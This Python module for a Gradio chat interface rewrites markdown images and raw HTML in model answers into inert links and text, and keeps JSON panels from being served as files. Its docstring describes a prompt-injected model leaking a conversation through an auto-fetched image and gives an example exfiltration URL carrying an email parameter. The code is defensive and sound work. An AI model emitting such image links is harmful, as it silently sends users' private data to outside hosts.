"""Text that cannot make the browser fetch anything or Gradio serve anything. Pure, no Gradio.

The chat renders message strings as markdown (marked, then Gradio's sanitiser), which would fetch
any image an answer names: ``![](https://host/leak?d=<email>)``, an ``<img>``, a ``style`` with
``url()``, an ``<svg><image>``... A prompt-injected model could leak a conversation that way without
a click. The page's Content-Security-Policy (``ui.app.CONTENT_SECURITY_POLICY``) blocks such fetches
in the browser; this module is the second layer, on the server:

* a markdown image (inline, reference, collapsed or shortcut; whatever its URL, entity-encoded or
  not) becomes a plain link: ``![alt](url)`` -> ``🖼️ [alt](url)``, since only the ``!`` makes it an
  image;
* raw HTML becomes text: a ``<`` that would open a tag (``<img``), an end tag, a comment or a
  declaration is followed by an invisible zero-width space, so no parser reads a tag there
  (``<br>``, which cannot fetch anything and models use in table cells, is put back).

The rules are the same inside code, so no disagreement with marked about where a code block ends
can let an image or a tag through; code still reads as written (an image there shows the mark).
The work is plain string replacement plus one pattern with a one-character lookahead, used on texts
up to ``EXACT_UP_TO`` characters: linear time, under 0.1 s for a megabyte of hostile text.

``plain_json`` does the same for JSON panels: Gradio copies and serves any output dict that
looks like a file (``{"path": ..., "meta": {"_type": "gradio.FileData"}}``), so such dicts are
shown as their JSON text instead.
"""

from __future__ import annotations

import json
import re
from typing import Any
from urllib.parse import quote

ZWSP = "\u200b"
IMAGE_MARK = "🖼️ "
_TAG_OPEN = re.compile(r"<(?=[A-Za-z/!?])")
# Up to this length only a "<" that could open a tag gets the break ("a < b" is copied as written);
# above it every "<" does, by one plain replacement: a regex pays per match, str.replace does not.
EXACT_UP_TO = 100_000
# <br> is kept through a private-use placeholder; one already in the text becomes <br>, which is harmless.
_BR = "\ue000"
_MAX_JSON_DEPTH = 20


def inert_markdown(text: str) -> str:
    """Markdown that shows images and raw HTML as links and text: nothing in it is fetched."""
    if "<" not in text and "![" not in text:
        return text
    # Afterwards no "![" is left at all; an escaped "\![" (its "!" already text) gets the invisible break.
    text = text.replace("\\![", "\\!" + ZWSP + "[").replace("![]", IMAGE_MARK + "[image]")
    text = text.replace("![", IMAGE_MARK + "[")
    if "<" not in text:
        return text
    text = text.replace("<br>", _BR).replace("<br/>", _BR).replace("<br />", _BR)
    text = _TAG_OPEN.sub("<" + ZWSP, text) if len(text) <= EXACT_UP_TO else text.replace("<", "<" + ZWSP)
    return text.replace(_BR, "<br>")


_MD_PUNCT = re.compile(r"([\\`*_{}\[\]()#+\-.!<>|~\"'&:])")


def md_escape(text: str, limit: int = 200) -> str:
    """A name shown literally in markdown (a file, tool or model): cut to ``limit``, punctuation escaped."""
    text = text if len(text) <= limit else text[: limit - 1] + "…"
    return _MD_PUNCT.sub(r"\\\1", text.replace("\n", " "))


def upload_image(path: str, alt: str) -> str:
    """Markdown showing a file from Gradio's upload folder, by a same-origin relative URL."""
    return f"![{md_escape(alt)}](gradio_api/file={quote(path, safe='/')})"


def plain_json(value: Any, depth: int = 0) -> Any:
    """A copy of JSON data in which nothing looks like a file to Gradio; deep nests shown as text."""
    if isinstance(value, dict):
        if "path" in value or depth >= _MAX_JSON_DEPTH:
            return json.dumps(value, ensure_ascii=False, default=str)
        return {str(k): plain_json(v, depth + 1) for k, v in value.items()}
    if isinstance(value, list | tuple):
        if depth >= _MAX_JSON_DEPTH:
            return json.dumps(value, ensure_ascii=False, default=str)
        return [plain_json(v, depth + 1) for v in value]
    return value
